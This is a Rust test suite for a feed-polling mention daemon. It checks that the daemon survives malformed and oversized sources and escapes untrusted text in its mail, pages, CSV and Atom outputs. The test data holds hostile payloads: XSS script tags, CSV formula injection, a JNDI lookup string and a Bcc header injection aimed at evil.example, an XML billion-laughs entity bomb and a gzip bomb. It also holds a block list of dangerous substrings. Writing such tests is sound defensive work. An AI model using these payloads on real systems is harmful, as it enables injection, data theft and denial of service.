//! Bad input beside good: each source comes to one recorded end, the good one is heard, and nothing that strangers wrote
//! reaches a reader unescaped.

use std::{fmt::Write as _, io::Write as _, time::Duration};

use flate2::{Compression, write::GzEncoder};
use jiff::SignedDuration;

use crate::support::{
    smtp::Mode,
    web::{Reply, Step},
    world::{World, get, in_world},
};

const CONFIG: &str = r#"
[polling]
every = "15m"
min_every = "1m"
spacing = "0s"
timeout = "3s"
max_body = "1MiB"

[[brand]]
id = "acme"
name = "Acme"
match = 'acme'

[[digest]]
id = "weekly"
schedule = "0 8 * * Mon"
to = ["marketing@acme.example"]
"#;

/// Titles that try to get out of where they are shown.
const TITLES: [&str; 9] = [
    "<script>alert(1)</script> Acme",
    "Acme \"><img src=x onerror=alert(2)>",
    "=HYPERLINK(\"http://evil.example\",\"Acme\")",
    "+Acme|calc",
    "@SUM(1) Acme",
    "-2+3+cmd Acme",
    "Acme \u{1b}[31mred\u{1b}[0m \u{7}bell \u{0}nul",
    "Acme </title></table><style>*{display:none}</style>",
    "Acme {{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example/}\r\nBcc: everyone@evil.example",
];

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut to = GzEncoder::new(Vec::new(), Compression::best());
    to.write_all(bytes).unwrap();
    to.finish().unwrap()
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

fn item(guid: &str, link: &str, title: &str, author: &str) -> String {
    format!(
        "<item><guid isPermaLink=\"false\">{guid}</guid><link>{}</link><title>{}</title><author>{}</author>\
         <description>{}</description><pubDate>Wed, 18 Nov 2026 10:00:00 GMT</pubDate></item>",
        escaped(link),
        escaped(&escaped(title)),
        escaped(author),
        escaped(&format!("<p>Acme says {title}</p>")),
    )
}

fn rss(items: &str) -> String {
    format!(
        "<rss version=\"2.0\"><channel><title>t</title><link>http://x.example/</link>{items}</channel></rss>"
    )
}

fn hostile_feed() -> String {
    let items: String = TITLES
        .iter()
        .enumerate()
        .map(|(n, title)| {
            let link = match n {
                0 => "javascript:alert(3)//acme".to_owned(),
                1 => "http://hostile.example/\"><script>alert(4)</script>".to_owned(),
                _ => format!("http://hostile.example/{n}"),
            };
            item(&n.to_string(), &link, title, title)
        })
        .collect();
    rss(&items)
}

/// Name, kind, answer.
fn bad() -> Vec<(&'static str, &'static str, Reply)> {
    let good = rss(&item("1", "http://good.example/1", "Acme is heard", "Ann"));
    let packed = gzip(good.repeat(400).as_bytes());
    let with = |headers: &[&str], body: Vec<u8>| Reply::new(200, headers, body);
    let zipped = ["Content-Encoding: gzip", "Content-Type: application/rss+xml"];
    let endless = Reply::raw(
        "HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n\r\n<rss version=\"2.0\"><channel>",
    )
    .then(Step::Repeat(
        b"<item><title>acme again and again</title></item>".repeat(1000),
        usize::MAX,
    ));
    let slow = Reply::raw("HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n<rss>")
        .then(Step::Drip(vec![b' '; 400], Duration::from_millis(100)));
    let crowd = |n: u32| match n % 100 {
        0 => format!("<item><title>Acme {n}</title></item>"),
        _ => format!("<item><title>Other {n}</title></item>"),
    };
    let crowd: String = (0..100_000).map(crowd).collect();
    let noise: Vec<u8> = (0..20_000_u32)
        .map(|n| n.wrapping_mul(2_654_435_761).to_be_bytes()[1])
        .collect();
    let deep = "<a>".repeat(100_000);
    let brackets = "[".repeat(200_000);
    vec![
        (
            "truncated",
            "feed",
            with(&zipped, packed[..packed.len() / 2].to_vec()),
        ),
        ("bomb", "feed", with(&zipped, gzip(&vec![b' '; 60 << 20]))),
        ("endless", "feed", endless),
        ("slow", "feed", slow),
        (
            "binary",
            "feed",
            with(&["Content-Type: application/rss+xml"], noise),
        ),
        ("empty", "feed", with(&[], Vec::new())),
        ("crowd", "feed", with(&[], rss(&crowd).into_bytes())),
        (
            "deep-xml",
            "feed",
            with(&[], format!("<rss version=\"2.0\"><channel>{deep}").into_bytes()),
        ),
        (
            "deep-html",
            "page",
            with(&["Content-Type: text/html"], "<div>".repeat(150_000).into_bytes()),
        ),
        (
            "deep-json",
            "api",
            with(&["Content-Type: application/json"], brackets.into_bytes()),
        ),
        ("entities", "feed", with(&[], billion_laughs().into_bytes())),
        ("hostile", "feed", with(&[], hostile_feed().into_bytes())),
        ("good", "feed", with(&[], good.into_bytes())),
    ]
}

fn billion_laughs() -> String {
    let mut entities = "<!ENTITY e0 \"acme acme acme acme\">".to_owned();
    for n in 1..12 {
        let last = format!("&e{};", n - 1).repeat(10);
        write!(entities, "<!ENTITY e{n} \"{last}\">").unwrap();
    }
    let items = "<item><title>&e11;</title></item>";
    format!("<?xml version=\"1.0\"?><!DOCTYPE rss [{entities}]>{}", rss(items))
}

fn config() -> String {
    let sources = bad().into_iter().map(|(name, kind, _)| {
        let url = format!("http://{name}.example:@PORT@/{name}");
        let what = match kind {
            "page" => format!("page = \"{url}\"\nitems = {{ each = \"li\", title = \"h2\", link = \"a@href\" }}"),
            "api" => format!(
                "api = \"json\"\nrequest = {{ url = \"{url}\" }}\nitems = \"$.a[*]\"\nfields = {{ title = \"$.title\" }}"
            ),
            _ => format!("feed = \"{url}\""),
        };
        let size = if name == "crowd" { "max_body = \"8MiB\"\n" } else { "" };
        format!("\n[[source]]\nname = \"{name}\"\n{what}\n{size}allow_private = true\n")
    });
    format!("{CONFIG}{}", sources.collect::<String>())
}

/// Nothing in it runs, nothing in it is invisible.
fn assert_harmless(what: &str, html: &str) {
    let lower = html.to_lowercase();
    for bad in [
        "<script",
        "<img src=x",
        "javascript:",
        "</table><style",
        "<style>*{",
    ] {
        assert!(!lower.contains(bad), "{what} contains `{bad}`: {html}");
    }
    assert_clean(what, html);
}

fn assert_clean(what: &str, text: &str) {
    let found = text
        .chars()
        .find(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t'));
    assert_eq!(found, None, "{what} has a control character: {text:?}");
}

async fn poll_all(world: &World) {
    for (name, _, reply) in bad() {
        world.web.on(&format!("/{name}"), [reply]);
    }
    world.poll_due().await;
}

#[test]
fn each_comes_to_one_end_and_the_good_are_heard() {
    in_world(Mode::Good, &config(), async |world| {
        poll_all(world).await;
        for (name, _, _) in bad() {
            let state = world.state(name);
            let polls: u32 = state.days.iter().map(|day| day.all).sum();
            assert_eq!(polls, 1, "{name}");
            let error = state.last_error.unwrap_or_default();
            match name {
                "good" | "hostile" | "crowd" => assert_eq!(state.health.as_str(), "ok", "{name}: {error}"),
                // What could be read of these is kept, the rest is told.
                "deep-xml" | "deep-html" | "entities" if state.health.as_str() == "ok" => {}
                _ => {
                    assert_eq!(state.health.as_str(), "failing", "{name}");
                    assert!(
                        error.len() > 10 && error.len() < 400 && error.lines().count() == 1,
                        "{name}: {error:?}"
                    );
                    assert_clean(name, &error);
                }
            }
        }
        let from = |mentions: &[mentiond::model::Mention], name: &str| {
            mentions
                .iter()
                .filter(|mention| mention.source.as_str() == name)
                .count()
        };
        let mentions = world.mentions().await;
        assert_eq!(from(&mentions, "good"), 1);
        assert_eq!(from(&mentions, "hostile"), TITLES.len());
        assert_eq!(
            from(&mentions, "bomb") + from(&mentions, "binary") + from(&mentions, "empty"),
            0
        );
        assert_eq!(from(&mentions, "crowd"), 200);
        let crowd = world.state("crowd");
        assert_eq!((crowd.last_items, crowd.days[0].mentions), (20_000, 200));
        let known = mentions.len();
        // Again, as long after: nothing doubles.
        world.pass(SignedDuration::from_hours(30));
        for name in ["good", "hostile", "crowd"] {
            let plan = world.daemon.board.plan();
            let source = plan.source(&name.into()).unwrap();
            assert_eq!(world.daemon.poll(source).await.unwrap(), 0, "{name}");
        }
        assert_eq!(world.mentions().await.len(), known);
    });
}

#[test]
fn nothing_strangers_wrote_reaches_a_reader_unescaped() {
    let config = format!(
        "{CONFIG}\n[[source]]\nname = \"hostile\"\nfeed = \"http://hostile.example:@PORT@/hostile\"\nallow_private = true\n\
         [[source]]\nname = \"rude\"\nfeed = \"http://rude.example:@PORT@/rude\"\nallow_private = true\n"
    );
    in_world(Mode::Good, &config, async |world| {
        let rude = Reply::new(
            500,
            &["Content-Type: text/html"],
            "<script>alert(5)</script>\u{1b}[2J",
        );
        world
            .web
            .on("/hostile", [Reply::ok(hostile_feed())])
            .on("/rude", [rude]);
        world.mail_round().await;
        assert_eq!(world.poll_due().await, TITLES.len());
        world.at("2026-11-23T07:00:00Z");
        assert_eq!(world.mail_round().await.sent, 1);

        let mail = world.mails().remove(0);
        assert_harmless("the mail", &mail.html);
        assert!(mail.subject.contains("mentions ≥ 9"), "{}", mail.subject);
        assert_clean("the mail's text", &mail.text);
        assert_clean("the subject", &mail.subject);
        let raw = world.smtp.stored().remove(0).bytes;
        let raw = String::from_utf8(raw).unwrap();
        let head = raw.split_once("\r\n\r\n").unwrap().0;
        assert!(
            !head.contains("Bcc") && raw.lines().all(|line| line.len() <= 998),
            "{head}"
        );

        let endpoint = world.endpoint().await;
        for path in ["/", "/digests/weekly"] {
            let page = get(endpoint, path).await;
            assert_eq!(page.status, 200, "{path}");
            assert_harmless(path, &page.body);
        }
        let csv = get(endpoint, "/mentions?format=csv").await.body;
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let mut rows = 0;
        for row in reader.records() {
            rows += 1;
            for cell in &row.unwrap() {
                let formula =
                    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
                assert!(!formula, "a formula: {cell}");
                assert_clean("a cell", cell);
            }
        }
        assert_eq!(rows, TITLES.len());
        let atom = get(endpoint, "/mentions?format=atom").await.body;
        assert_harmless("the Atom feed", &atom);
        let feed = mentiond::text::charset::decode(atom.as_bytes(), None).text;
        assert_eq!(feed.matches("<entry>").count(), TITLES.len());
        let mut xml = quick_xml::Reader::from_str(&feed);
        loop {
            match xml.read_event() {
                Ok(quick_xml::events::Event::Eof) => break,
                Ok(_) => {}
                Err(why) => panic!("{why}: {feed}"),
            }
        }
        let lines = get(endpoint, "/mentions?format=jsonl").await.body;
        for line in lines.lines() {
            let mention: serde_json::Value = serde_json::from_str(line).unwrap();
            assert_clean("a title", mention["title"].as_str().unwrap());
        }
        assert_clean("the status", &get(endpoint, "/status").await.body);
    });
}
